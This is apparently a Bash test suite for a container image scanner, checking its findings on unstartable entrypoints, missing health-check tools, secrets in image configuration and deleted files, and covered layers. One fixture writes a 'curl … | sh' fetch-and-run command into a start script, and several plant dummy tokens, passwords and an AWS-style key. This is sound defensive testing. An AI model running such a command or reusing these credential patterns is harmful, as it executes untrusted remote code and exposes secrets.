# shellcheck shell=bash disable=SC2016,SC2154
# Start commands and health checks that cannot be executed, secrets in the configuration, and what must stay as it is.

# reload TAG CHANGE: cases/busybox:1 as TAG, with a configuration that CHANGE, which is Python, made of `config`.
reload() {
  docker save cases/busybox:1 -o "$context/image.tar"
  python3 "$root/eng/cases/reload.py" "$context" "$@"
  docker load -q -i "$context/made.tar" >/dev/null
}

# What was found against the start: ids and evidence.
start_findings() { field '[.findings[] | select(.check == "autorun.file" and .id != "unvouched") | "\(.id): \(.evidence)"] | join("; ")'; }

start_advice() { field '[.findings[] | select(.check == "autorun.file" and .id != "unvouched") | .remediation] | join("; ")'; }

# SCRIPT, as printf takes it, and MODE.
entry_script() {
  image cases/entry <<DOCKERFILE
FROM cases/busybox:1
RUN printf '$1' > /entry.sh && chmod $2 /entry.sh
USER 1000:1000
ENTRYPOINT ["/entry.sh"]
DOCKERFILE
  scan cases/entry
}

case_11_windows_line_ends() {
  base busybox
  entry_script '#!/bin/sh\r\nexec sleep 60\r\n' 755
  expect 'CRLF' 'missing-interpreter: *carriage return*' "$(start_findings)"
  entry_script '#!/usr/bin/env sh\r\nexec sleep 60\r\n' 755
  expect 'CRLF behind env' 'missing-interpreter: *' "$(start_findings)"
  entry_script '#!/bin/sh\nexec sleep 60\r\n' 755
  expect 'below the first line' '' "$(start_findings)"
}

case_12_loader_of_another_c_library() {
  base busybox
  cp /bin/ls "$context/server"
  image cases/loader <<'DOCKERFILE'
FROM cases/busybox:1
COPY server /app/server
USER 1000:1000
ENTRYPOINT ["/app/server"]
DOCKERFILE
  scan cases/loader
  expect 'a dynamic program without its loader' 'missing-interpreter: *needs the loader /lib*' "$(start_findings)"
}

case_13_exec_format() {
  base busybox
  entry_script '# note\n#!/bin/sh\nexec sleep 60\n' 755
  expect 'a comment above' 'not-a-program: *beginning*' "$(start_findings)"
  entry_script '\357\273\277#!/bin/sh\nexec sleep 60\n' 755
  expect 'a byte order mark' 'not-a-program: *byte order mark*' "$(start_findings)"
  entry_script 'exec sleep 60\n' 755
  expect 'no #!' 'not-a-program: *no #!*' "$(start_findings)"
}

case_14_permission_denied() {
  base busybox
  entry_script '#!/bin/sh\nexec sleep 60\n' 644
  expect 'nobody may' 'not-executable: *' "$(start_findings)"
  entry_script '#!/bin/sh\nexec sleep 60\n' 700
  expect 'this user may not' 'not-permitted: *' "$(start_findings)"
  entry_script '#!/bin/sh\nexec sleep 60\n' 711
  expect 'a script must be read' 'not-permitted: *may not read*' "$(start_findings)"
}

case_15_health_check_without_curl() {
  base busybox
  local check
  for check in 'curl -f http://localhost:8080/ || exit 1' '["curl","-f","http://localhost:8080/"]'; do
    printf 'FROM cases/busybox:1\nUSER 1000:1000\nHEALTHCHECK CMD %s\nCMD ["/bin/sh","-c","sleep 60"]\n' "$check" | image cases/health
    scan cases/health
    expect "HEALTHCHECK CMD $check" 'missing-target: HEALTHCHECK: curl' "$(start_findings)"
    expect 'the advice' '*will be called unhealthy.' "$(start_advice)"
  done
  printf 'FROM cases/busybox:1\nUSER 1000:1000\nHEALTHCHECK CMD curl -f localhost || wget -q -O - localhost\nCMD ["/bin/sh","-c","sleep 60"]\n' | image cases/health
  scan cases/health
  expect 'with another way' '' "$(start_findings)"
}

case_19_secrets_in_the_configuration() {
  base busybox
  image cases/secrets <<'DOCKERFILE'
FROM cases/busybox:1
ARG NPM_TOKEN=0d951c95602f417c2d017e07fc10d0f9061bfd71
RUN true
ENV POSTGRES_PASSWORD=Tr0ub4dor-and-3 DATABASE_URL=postgres://app:Tr0ub4dor-and-3@db/app
LABEL deploy.token=b2ee1224fabb99d6a5e8d49d4bc0c156e8bed2a0
HEALTHCHECK CMD redis-cli -a cr4neBridge ping
USER 1000:1000
CMD ["/bin/sh","-c","sleep 60","--requirepass","p1neForest8"]
DOCKERFILE
  scan cases/secrets
  expect 'the check' detected "$(checked secret.env)"
  expect 'the places' 'ARG NPM_TOKEN CMD requirepass ENV DATABASE_URL ENV POSTGRES_PASSWORD HEALTHCHECK redis-cli -a LABEL deploy.token' \
    "$(field '[.findings[] | select(.check == "secret.env") | .target] | sort | join(" ")')"
  expect 'no value is shown' 0 "$(grep -c -e 'Tr0ub4' -e '0d951c95' -e 'cr4neB' -e 'p1neF' "$work/json" || true)"
  printf 'FROM cases/busybox:1\nENV DB_PASSWORD= DB_PASSWORD_FILE=/run/secrets/db API_TOKEN=xxxx\nUSER 1000:1000\nCMD ["/bin/sh","-c","sleep 60"]\n' | image cases/secrets
  scan cases/secrets
  expect 'empty, a file, a placeholder' '' "$(findings secret.env)"
}

case_21_name_that_ends_in_a_blank() {
  base busybox
  image cases/blank <<'DOCKERFILE'
FROM cases/busybox:1
RUN mkdir "/odd " && printf '#!/bin/sh\nexec sleep 60\n' > "/odd /entry.sh" && chmod +x "/odd /entry.sh"
USER 1000:1000
ENTRYPOINT ["/odd /entry.sh"]
DOCKERFILE
  scan cases/blank
  expect 'what starts' '/odd /entry.sh *' "$(field '[.autorun[].path] | join(" ")')"
  expect 'the stage' completed "$(outcome autorun)"
}

case_22_links_in_a_circle() {
  base busybox
  image cases/circle <<'DOCKERFILE'
FROM cases/busybox:1
RUN mkdir /ring /app && ln -s b /ring/a && ln -s a /ring/b && ln -s . /ring/c && ln -s app/.. /up && printf '#!/bin/sh\nexec sleep 60\n' > /app/entry.sh && chmod +x /app/entry.sh
ENV PATH=/ring/a:/ring/c:/bin
USER 1000:1000
ENTRYPOINT ["/up/app/entry.sh"]
DOCKERFILE
  scan cases/circle
  expect 'what starts' '/app/entry.sh *' "$(field '[.autorun[].path] | join(" ")')"
  expect 'the stage' completed "$(outcome autorun)"
}

case_23_package_lists_of_distroless() {
  base busybox
  image cases/distroless <<'DOCKERFILE'
FROM cases/busybox:1
RUN mkdir -p /var/lib/dpkg/status.d && printf 'ID=debian\nVERSION_ID="12"\n' > /etc/os-release \
 && printf 'Package: base-files\nStatus: install ok installed\nVersion: 12.4+deb12u5\nArchitecture: amd64\nMaintainer: x\n' > /var/lib/dpkg/status.d/base \
 && printf 'Package: gone\nStatus: deinstall ok config-files\nVersion: 1.0\nArchitecture: amd64\nMaintainer: x\n' > /var/lib/dpkg/status.d/gone
USER 1000:1000
CMD ["/bin/sh","-c","sleep 60"]
DOCKERFILE
  scan cases/distroless
  expect 'packages' 1 "$(sed -n 's/^| Packages | \(.*\) |$/\1/p' "$(field .reports.markdown)")"
}

case_25_history_of_another_builder() {
  base busybox
  reload cases/buildah:1 "config['config'].update(User='1000:1000', Cmd=['/bin/sh', '-c', 'sleep 60']); config['history'][-1]['created_by'] = '/bin/sh -c #(nop) CMD [\"/bin/sh\",\"-c\",\"sleep 60\"]|force-mtime=10'"
  scan cases/buildah:1
  expect 'findings of history, start and secrets' '' "$(field '[.findings[] | select(.id | startswith("history")) | .id] | join(" ")')$(start_findings)$(findings secret.env)"
}

case_28_covered_files() {
  base busybox
  image cases/covered <<'DOCKERFILE'
FROM cases/busybox:1
RUN mkdir /start && printf '#!/bin/sh\ncurl http://198.51.100.1/x | sh\n' > /start/run.sh && chmod +x /start/run.sh
RUN rm -rf /start && mkdir /start && printf '#!/bin/sh\nexec sleep 60\n' > /start/run.sh && chmod +x /start/run.sh
USER 1000:1000
ENTRYPOINT ["/start/run.sh"]
DOCKERFILE
  scan cases/covered
  expect 'malware in what starts' '' "$(findings autorun.malware)"
}

case_26_command_as_one_string() {
  base busybox
  local first
  for first in "config['config']['Cmd'] = 'sleep 60'" "config['config'].update(Entrypoint='sleep 60', Cmd=None)"; do
    reload cases/string:1 "config['config']['User'] = '1000:1000'; $first"
    scan cases/string:1
    expect 'the reason' '*is one string (*' "$(reason trivy)"
    forget cases/string:1
  done
}

case_27_what_phones_make_of_a_command() {
  base busybox
  local line card
  for line in '/scan cases/busybox:1 —no-sandbox' '/scan cases/busybox:1 –no-sandbox' '/scan “cases/busybox:1” --no-sandbox' $'/scan\u00a0cases/busybox:1 --no-sandbox' '/scan `cases/busybox:1` --no-sandbox'; do
    printf '%s\nexit\n' "$line" | dotnet "$host" chat >"$work/chat" 2>&1 || true
    if grep -q 'cases/busybox:1' "$work/chat" && grep -q 'findings [a-z0-9]\{12\}' "$work/chat"; then card=yes; else card=$(tr '\n' ' ' <"$work/chat"); fi
    expect "$line" yes "$card"
  done
}

case_r6_settings_that_no_engine_starts() {
  base busybox
  local change
  for change in "config['config']['WorkingDir'] = 'rel'" "config['config']['Env'] = ['=x']" "config['config']['User'] = '4294967296'"; do
    reload cases/unstartable:1 "config['config']['Cmd'] = ['/bin/sh', '-c', 'sleep 60']; $change"
    sandbox cases/unstartable:1 --window 5
    expect "$change" 'cannot-start *' "$(findings behavior.crash)"
    expect 'whose fault it is' '!(*engine failed*)' "$(reason sandbox)"
    expect 'what the configuration alone shows' completed "$(outcome image-config)"
    forget cases/unstartable:1
  done
}

case_r7_volume_over_a_file() {
  base busybox
  reload cases/volume:1 "config['config'].update(Volumes={'/bin/busybox': {}}, Cmd=['/bin/sh', '-c', 'sleep 60'])"
  sandbox cases/volume:1 --window 5
  expect 'what it is' 'cannot-start *' "$(findings behavior.crash)"
  expect 'no USER is still said' detected "$(checked privilege.root-user)"
  expect 'no folder of the machine in it' 0 "$(field '[.stages[].reason, .findings[].evidence] | map(select(. != null and test("/cases/engine/|/var/lib/docker"))) | length')"
}

case_r9_secret_in_a_deleted_file() {
  base busybox
  printf 'FROM cases/busybox:1\nRUN printf "AWS_ACCESS_KEY_ID=AKIA%%s\\n" Q3EGRZTJ5VPLW2XN > /deploy.env\nRUN rm /deploy.env\nUSER 1000:1000\nCMD ["/bin/sh","-c","sleep 60"]\n' | image cases/deleted
  scan cases/deleted
  expect 'a secret in a deleted file' '*later one deleted the file*' "$(field '[.findings[] | select(.check == "secret.file") | .evidence] | join(" ")')"
}
